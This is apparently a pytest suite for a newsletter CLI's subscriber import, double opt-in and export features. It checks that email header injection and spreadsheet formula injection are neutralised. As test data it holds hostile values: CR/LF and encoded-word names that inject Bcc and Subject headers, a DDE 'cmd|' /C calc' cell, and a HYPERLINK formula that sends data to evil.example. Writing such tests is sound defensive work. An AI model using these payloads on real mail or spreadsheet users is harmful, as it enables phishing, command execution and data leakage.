"""`masthead subscribers …`: import reports, de-duplication, consent, suppression, double
opt-in through a real SMTP server."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner

from conftest import point_smtp_at
from masthead.cli import main
from masthead.content import load_publication
from masthead.store import dispose_engines, open_store, tokens
from masthead.store import subscriber_list as subs


@pytest.fixture(autouse=True)
def _fresh_engines():
    yield
    dispose_engines()


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    return result.exit_code, result.output


def write_csv(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


ROWS = (
    "email,name,language\r\n"
    "ada@example.org,Ada Lovelace,en\r\n"  # line 2
    "ADA@Example.org,Ada again,\r\n"  # 3: duplicate (case-insensitive)
    "not-an-address,X,\r\n"  # 4: invalid
    '"bob@example.org","Bob\r\nBcc: evil@example.net",fr\r\n'  # 5-6: name with CR/LF
    "carol@example.org,Carol,\r\n"  # 7
    "dave@@example.org,Dave,\r\n"  # 8: invalid
)


def test_import_reports_each_bad_row_and_imports_the_rest(demo: Path, tmp_path: Path) -> None:
    code, out = run(
        "subscribers", "import", demo, write_csv(tmp_path / "r.csv", ROWS), "--confirmed"
    )
    assert code == 0, out
    assert "Imported 3 address(es) (active); 3 skipped." in out
    bad = {int(m[1]): m[2] for m in re.finditer(r"│\s+(\d+) │ (.+?)\s+│", out)}
    assert bad == {3: "ADA@example.org", 4: "not-an-address", 8: "dave@@example.org"}
    assert "duplicate of line 2" in out
    assert "An email address must have an @-sign" in out

    store = open_store(load_publication(demo))
    people = {s.email: s for s in subs.iter_subscribers(store)}
    assert set(people) == {"ada@example.org", "bob@example.org", "carol@example.org"}
    assert people["bob@example.org"].name == "Bob Bcc: evil@example.net"
    assert people["bob@example.org"].language == "fr"
    assert all(s.status == "active" and s.confirmed_at for s in people.values())
    events = subs.history(store, people["ada@example.org"].id)
    assert [(e.action, e.source) for e in events] == [("import", "import")]
    assert "r.csv" in events[0].detail and "line 2" in events[0].detail

    # Again: everyone is already there, nobody is added twice.
    code, out = run("subscribers", "import", demo, tmp_path / "r.csv", "--confirmed")
    assert code == 0 and "Imported 0 address(es)" in out
    assert out.count("already on the list (active)") == 3


def test_a_suppressed_address_survives_reimport(demo: Path, tmp_path: Path) -> None:
    csv_file = write_csv(tmp_path / "r.csv", ROWS)
    run("subscribers", "import", demo, csv_file, "--confirmed")
    code, out = run("subscribers", "suppress", demo, "Carol@example.org", "--reason", "complaint")
    assert code == 0 and "Suppressed" in out
    code, out = run("subscribers", "suppress", demo, "never-subscribed@example.org")
    assert code == 0
    more = write_csv(tmp_path / "more.csv", ROWS + "never-subscribed@example.org,N,\n")
    code, out = run("subscribers", "import", demo, more, "--confirmed")
    assert "suppressed (complaint)" in out and "suppressed (manual)" in out
    code, out = run("subscribers", "add", demo, "carol@example.org", "--confirmed")
    assert code == 1 and "suppressed (complaint)" in out
    store = open_store(load_publication(demo))
    carol = next(s for s in subs.iter_subscribers(store) if s.email == "carol@example.org")
    assert (carol.status, carol.suppressed) == ("complained", "complaint")
    assert "never-subscribed@example.org" not in {s.email for s in subs.iter_subscribers(store)}


def test_list_export_remove(demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    run("subscribers", "import", demo, write_csv(tmp_path / "r.csv", ROWS), "--confirmed")
    run("subscribers", "suppress", demo, "bob@example.org")
    code, out = run("subscribers", "list", demo)
    assert code == 0
    assert "3 shown. List: 2 active, 1 unsubscribed, 1 suppressed." in out
    assert "unsubscribed (suppressed: manual)" in out
    code, out = run("subscribers", "list", demo, "--status", "suppressed")
    assert "bob@example.org" in out and "ada@example.org" not in out

    code, out = run("subscribers", "export", demo)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["email"] for r in rows] == ["ada@example.org", "bob@example.org", "carol@example.org"]
    assert rows[1]["suppressed"] == "manual" and rows[0]["language"] == "en"

    # The export imports back into another publication.
    (tmp_path / "other").mkdir()
    other = tmp_path / "other" / "pub"
    from masthead.scaffold import copy_demo

    copy_demo(other)
    run("subscribers", "export", demo, tmp_path / "backup.csv")
    with monkeypatch.context() as m:  # the other publication's own database
        m.setenv("MASTHEAD_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")
        code, out = run("subscribers", "import", other, tmp_path / "backup.csv", "--confirmed")
    assert "Imported 3 address(es)" in out

    code, out = run("subscribers", "remove", demo, "ADA@example.org")
    assert code == 0 and "Removed" in out
    code, out = run("subscribers", "remove", demo, "ada@example.org")
    assert code == 1 and "not on the list" in out


def test_import_refuses_a_file_without_an_email_column(demo: Path, tmp_path: Path) -> None:
    code, out = run("subscribers", "import", demo, write_csv(tmp_path / "r.csv", "mail,name\n"))
    assert code == 1
    assert "r.csv:1: no `email` column" in out


def test_double_opt_in_sends_a_signed_link_and_confirming_lifts_suppression(
    demo: Path, tmp_path: Path, confirm_sink
) -> None:
    point_smtp_at(demo, confirm_sink.port)
    csv_file = write_csv(
        tmp_path / "r.csv", "email,name\nada@example.org,Ada\nbob@example.org,Bob\n"
    )
    code, out = run("subscribers", "import", demo, csv_file)
    assert code == 0, out
    assert "pending confirmation" in out and "Sent 2 confirmation email(s)." in out
    assert len(confirm_sink.received) == 2

    pub = load_publication(demo)
    store = open_store(pub)
    by_mail = {s.email: s for s in subs.iter_subscribers(store)}
    assert {s.status for s in by_mail.values()} == {"pending"}
    sender, rcpts, msg = confirm_sink.received[0]
    assert rcpts == ["ada@example.org"]
    ada = by_mail["ada@example.org"]
    assert tokens.parse_verp(pub, sender, ada.email) == ada.id  # VERP envelope, bound to Ada
    assert msg["To"] == "ada@example.org"  # no name in mail to an unconfirmed address
    assert msg["From"] == "Riverside Bulletin <bulletin@example.org>"
    assert msg["Subject"] == "Confirm your subscription to Riverside Bulletin"
    body = msg.get_content()
    link = re.search(r"https://bulletin\.example\.org/confirm/(\d+)/(\S+)", body)
    assert link and int(link[1]) == by_mail["ada@example.org"].id
    assert tokens.check_token(pub, "confirm", int(link[1]), "ada@example.org", link[2])
    assert urlsplit(link[0]).path.startswith("/confirm/")

    # She unsubscribes later (suppressed) and then confirms a new sign-up: a new opt-in.
    ada = by_mail["ada@example.org"]
    subs.confirm(store, ada.id, ip="192.0.2.1")
    subs.unsubscribe(store, ada.id, source="email")
    assert next(subs.iter_subscribers(store, "suppressed")).email == "ada@example.org"
    subs.add(store, "Ada@example.org", source="form", ip="192.0.2.7")
    again = subs.confirm(store, ada.id, ip="192.0.2.7")
    assert again is not None and again.status == "active"
    assert list(subs.iter_subscribers(store, "suppressed")) == []
    events = [(e.action, e.source, e.ip) for e in subs.history(store, ada.id)]
    assert events == [
        ("import", "import", None),
        ("confirm", "email", "192.0.2.1"),
        ("unsubscribe", "email", None),
        ("subscribe", "form", "192.0.2.7"),
        ("resubscribe", "email", "192.0.2.7"),
    ]


def test_add_sends_one_confirmation_and_resend_sends_it_again(demo: Path, confirm_sink) -> None:
    point_smtp_at(demo, confirm_sink.port)
    code, out = run("subscribers", "add", demo, "Eve@Example.ORG", "--name", "Eve\u2028Bcc: x@y.z")
    assert code == 0, out
    assert "Added Eve@example.org (#1, pending)." in out
    _, _, msg = confirm_sink.received[0]
    assert msg["To"] == "Eve@example.org"  # the name (and whatever it hides) stays out
    assert msg["To"].addresses[0].display_name == ""
    assert set(msg.keys()) == {
        "From",
        "To",
        "Reply-To",
        "Subject",
        "Date",
        "Message-ID",
        "Auto-Submitted",
        "Content-Type",
        "Content-Transfer-Encoding",
        "MIME-Version",
    }
    code, out = run("subscribers", "resend", demo)
    assert code == 0 and "Sent 1 confirmation email(s)." in out
    assert len(confirm_sink.received) == 2


def test_unreachable_mail_server_keeps_the_subscriber_pending_and_says_how_to_retry(
    demo: Path,
) -> None:
    import socket

    # bound but never listening: connecting is refused, and no other test's server can take
    # the port meanwhile
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))
        point_smtp_at(demo, nobody.getsockname()[1])
        code, out = run("subscribers", "add", demo, "ada@example.org")
    assert code == 1
    assert "1 address(es) wait for confirmation" in out
    assert "masthead subscribers resend" in out
    code, out = run("subscribers", "list", demo, "--status", "pending")
    assert "ada@example.org" in out


def test_new_addresses_need_a_sender_address(demo: Path, tmp_path: Path) -> None:
    toml = demo / "masthead.toml"
    text = toml.read_text("utf-8").replace(
        'from = "Riverside Bulletin <bulletin@example.org>"\n', ""
    )
    toml.write_text(text, "utf-8")
    code, out = run("subscribers", "add", demo, "ada@example.org")
    assert code == 1 and "no `from` address" in out and "--confirmed" in out


def test_db_upgrade_prints_the_version(demo: Path) -> None:
    from masthead.store import LATEST

    code, out = run("db", "upgrade", demo)
    assert code == 0 and f"upgraded from version 0 to {LATEST}" in out
    code, out = run("db", "upgrade", demo)
    assert code == 0 and f"schema version {LATEST} (up to date)" in out


def test_import_reads_semicolons_tabs_and_a_bom(demo: Path, tmp_path: Path) -> None:
    semicolons = write_csv(
        tmp_path / "s.csv", "\ufeffName;Email\nSmith, John;john@example.org\nAnn;ann@example.org\n"
    )
    code, out = run("subscribers", "import", demo, semicolons, "--confirmed")
    assert code == 0 and "Imported 2 address(es)" in out
    tabs = write_csv(tmp_path / "t.csv", "email\tname\ntab@example.org\tTab; Person\n")
    code, out = run("subscribers", "import", demo, tabs, "--confirmed")
    assert code == 0 and "Imported 1 address(es)" in out
    names = {s.email: s.name for s in subs.iter_subscribers(open_store(load_publication(demo)))}
    assert names == {
        "john@example.org": "Smith, John",
        "ann@example.org": "Ann",
        "tab@example.org": "Tab; Person",
    }


def test_a_refused_recipient_is_reported_and_the_others_get_their_email(
    demo: Path, tmp_path: Path
) -> None:
    from aiosmtpd.controller import Controller

    from conftest import MailSink
    from smtp_sink import start_controller

    class Refusing(MailSink):
        async def handle_RCPT(self, server, session, envelope, address, options):
            if address.startswith("gone@"):
                return "550 5.1.1 No such user"
            envelope.rcpt_tos.append(address)
            return "250 OK"

    sink = Refusing()
    controller = start_controller(lambda port: Controller(sink, hostname="127.0.0.1", port=port))
    sink.port = controller.port
    try:
        point_smtp_at(demo, sink.port)
        rows = "email\na@example.org\ngone@example.org\nb@example.org\n"
        code, out = run("subscribers", "import", demo, write_csv(tmp_path / "r.csv", rows))
    finally:
        controller.stop()
    assert code == 0, out
    assert "Sent 2 confirmation email(s)." in out
    assert "Warning: no confirmation email to gone@example.org: 550 5.1.1 No such user" in out
    assert sorted(r[1][0] for r in sink.received) == ["a@example.org", "b@example.org"]


def test_clean_name_keeps_the_persian_non_joiner_and_drops_controls() -> None:
    """Regression: clean_name dropped U+200C, which spells Persian names (علی‌رضا)."""
    from masthead.store.addresses import clean_name

    assert clean_name("علی\u200cرضا\r\nBcc: x@example.org\u2028\u202e") == (
        "علی\u200cرضا Bcc: x@example.org"
    )


def test_an_encoded_word_in_a_name_cannot_inject_a_header(demo: Path, confirm_sink) -> None:
    """Regression: a name `=?utf-8?q?x=0D=0ASubject:…?=` (the sign-up form takes any name)
    put a real CR LF into the confirmation email's To: header: the email API decodes
    encoded words in a display name."""
    from masthead.store.addresses import clean_name

    evil = "=?utf-8?q?x=0D=0ASubject:_Your_account_is_locked=0D=0AX-Evil:_1?="
    assert "\n" not in clean_name(evil) and "=?" not in clean_name(evil)
    point_smtp_at(demo, confirm_sink.port)
    code, out = run("subscribers", "add", demo, "victim@example.org", "--name", evil)
    assert code == 0, out
    _, _, msg = confirm_sink.received[0]
    assert "X-Evil" not in msg
    assert len(msg.get_all("Subject")) == 1 and "locked" not in msg["Subject"]
    assert "\n" not in msg["To"].addresses[0].display_name


FORMULA_CELLS = {
    # email → name: formulas of every kind a spreadsheet runs, in both columns
    "ada@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=cmd@example.org": "+1+cmd|' /C calc'!A0",
    "-dash@example.org": "-2+3",
    "+plus@example.org": "@SUM(A1:A9)",
    "bob@example.org": "'=already quoted by hand",
    "carol@example.org": "'quoted' is plain text",
    "dave@example.org": "Dave O'Neil - editor",
}


def test_export_neutralises_formulas_and_import_reads_them_back(
    demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for address, name in FORMULA_CELLS.items():
        added = run("subscribers", "add", demo, f"--name={name}", "--confirmed", "--", address)
        assert added[0] == 0, added[1]
    code, out = run("subscribers", "export", demo)
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert len(rows) == len(FORMULA_CELLS)
    for row in rows:  # no cell starts like a formula (OWASP: = + - @ tab CR)
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
    by_email = {r[0]: r[1] for r in rows}
    assert by_email["'=cmd@example.org"] == "'+1+cmd|' /C calc'!A0"
    assert by_email["ada@example.org"].startswith("'=HYPERLINK(")
    assert by_email["bob@example.org"] == "''=already quoted by hand"
    assert by_email["carol@example.org"] == "'quoted' is plain text"
    assert by_email["dave@example.org"] == "Dave O'Neil - editor"

    run("subscribers", "export", demo, tmp_path / "backup.csv")
    from masthead.scaffold import copy_demo

    other = tmp_path / "other"
    copy_demo(other)
    monkeypatch.setenv("MASTHEAD_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")
    code, out = run("subscribers", "import", other, tmp_path / "backup.csv", "--confirmed")
    assert code == 0 and f"Imported {len(FORMULA_CELLS)} address(es)" in out, out
    store = open_store(load_publication(other))
    assert {s.email: s.name for s in subs.iter_subscribers(store)} == FORMULA_CELLS


_SPLIT_FORMULA = re.compile(r"(?:^|[;,|\t\r\n])[^\S\t\r\n]*[=+\-@]")
"""A formula a spreadsheet runs when it splits the cell on ; , | tab or a line break."""


@pytest.mark.parametrize(
    "value",
    [
        *("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "'=x", "''+x", "'", "'x", "x=1", ""),
        *("Ann;=1+1", "Bob;=HYPERLINK(A1)", "Cy, +7*6", "Dee|@SUM(A1)", "Eve\t-1", "a;;=1"),
        *("a; \u00a0=1", "a;'=1", "a;''=1", "a;\t=1", "=a;=b,=c|=d", "a;x=1", "a; b", "a;'"),
    ],
)
def test_spreadsheet_cells_round_trip(value: str) -> None:
    cell = subs.spreadsheet_safe(value)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
    assert not _SPLIT_FORMULA.search(cell), cell
    assert subs.from_spreadsheet(cell) == value


def test_every_short_cell_round_trips_and_an_untouched_cell_reads_back_as_it_is() -> None:
    """Import undoes exactly what export did: every string of up to 4 of these characters."""
    from itertools import product

    alphabet = "a;,'\t =@"
    for length in range(5):
        for chars in product(alphabet, repeat=length):
            value = "".join(chars)
            cell = subs.spreadsheet_safe(value)
            assert subs.from_spreadsheet(cell) == value, repr(value)
            assert not _SPLIT_FORMULA.search(cell) and cell[:1] != "\t", repr(value)
            if cell == value:  # a cell export leaves alone, import leaves alone too
                assert subs.from_spreadsheet(value) == value, repr(value)


def test_export_quotes_every_cell_and_a_name_with_a_separator_reads_back(
    demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    names = {"ann@example.org": "Ann;=1+1", "bob@example.org": "Bob, +1 | @x; -2"}
    for address, name in names.items():
        added = run("subscribers", "add", demo, f"--name={name}", "--confirmed", "--", address)
        assert added[0] == 0, added[1]
    code, out = run("subscribers", "export", demo)
    assert code == 0
    header, *lines = out.splitlines()
    assert header.startswith("email,name,language,status")
    assert lines and all(line.startswith('"') and line.endswith('"') for line in lines), lines
    for line in lines:  # split as a spreadsheet with ; , and | as separators would
        for piece in re.split(r"[;,|]", line):
            assert piece.strip().strip('"').lstrip()[:1] not in ("=", "+", "-", "@"), line
    run("subscribers", "export", demo, tmp_path / "backup.csv")
    from masthead.scaffold import copy_demo

    other = tmp_path / "other"
    copy_demo(other)
    monkeypatch.setenv("MASTHEAD_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")
    code, out = run("subscribers", "import", other, tmp_path / "backup.csv", "--confirmed")
    assert code == 0, out
    store = open_store(load_publication(other))
    assert {s.email: s.name for s in subs.iter_subscribers(store)} == names


HUGE = "x" * 200_000  # over the csv module's 131,072-character field limit


def test_an_oversized_csv_field_is_a_bad_row_and_every_bad_row_is_listed(
    demo: Path, tmp_path: Path
) -> None:
    rows = (
        "email,name\n"
        "ada@example.org,Ada\n"  # 2
        f"bob@example.org,{HUGE}\n"  # 3: unquoted field over the limit
        "carol@example.org,Carol\n"  # 4
        f'dave@example.org,"{HUGE}"\n'  # 5: quoted field over the limit
        "not-an-address,X\n"  # 6
        f"erin@example.org,{'y' * 10_000}\n"  # 7: a name too long to mail
        "frank@example.org,Frank\n"  # 8
    )
    code, out = run(
        "subscribers", "import", demo, write_csv(tmp_path / "big.csv", rows), "--confirmed"
    )
    assert code == 0, out
    text = " ".join(out.split())
    assert f"4 row(s) of {tmp_path / 'big.csv'} not imported" in text
    assert text.count("longer than 131,072 characters, the most a CSV field may hold") == 2
    assert "the name is 10,000 characters long" in text and "the most is 200" in text
    reported = [int(m) for m in re.findall(r"│\s+(\d+) │", out)]
    assert reported == [3, 5, 6, 7]
    assert "Imported 3 address(es)" in out
    store = open_store(load_publication(demo))
    assert sorted(s.email for s in subs.iter_subscribers(store)) == [
        "ada@example.org",
        "carol@example.org",
        "frank@example.org",
    ]


def test_an_oversized_header_row_is_a_clear_error(demo: Path, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "h.csv", f"email,{HUGE}\nada@example.org\n")
    code, out = run("subscribers", "import", demo, path, "--confirmed")
    assert code == 1 and "Traceback" not in out
    assert f"{path}:1: the header row cannot be read: a field is longer than 131,072" in out


@pytest.mark.parametrize("length", [201, 10_000])
def test_add_refuses_a_name_too_long_to_mail(demo: Path, length: int) -> None:
    code, out = run(
        "subscribers", "add", demo, "ada@example.org", "--name", "n" * length, "--confirmed"
    )
    assert code == 1 and f"the name is {length:,} characters long" in out
    assert "shorten the name to 200 characters or fewer" in out
    assert list(subs.iter_subscribers(open_store(load_publication(demo)))) == []
    code, out = run(
        "subscribers", "add", demo, "ada@example.org", "--name", "n" * 200, "--confirmed"
    )
    assert code == 0, out


NASTY = [
    "Eve\r\nBcc: evil@example.net",
    "Eve\x1b[2J\x07",
    "Eve\u2028Bcc: x",
    "Eve\u202eX",
    "\tEve\x00",
]


def test_names_lose_control_characters_from_the_cli_and_an_import(
    demo: Path, tmp_path: Path
) -> None:
    for i, name in enumerate(NASTY):
        assert (
            run("subscribers", "add", demo, f"cli{i}@example.org", "--name", name, "--confirmed")[0]
            == 0
        )
    lines = ["email,name"] + [f'csv{i}@example.org,"{name}"' for i, name in enumerate(NASTY)]
    _, out = run(
        "subscribers",
        "import",
        demo,
        write_csv(tmp_path / "n.csv", "\n".join(lines)),
        "--confirmed",
    )
    assert f"Imported {len(NASTY)} address(es)" in out, out
    names = {s.email: s.name for s in subs.iter_subscribers(open_store(load_publication(demo)))}
    assert len(names) == 2 * len(NASTY)
    for name in names.values():
        assert name.startswith("Eve") and name.isprintable(), repr(name)
    assert names["cli0@example.org"] == names["csv0@example.org"] == "Eve Bcc: evil@example.net"
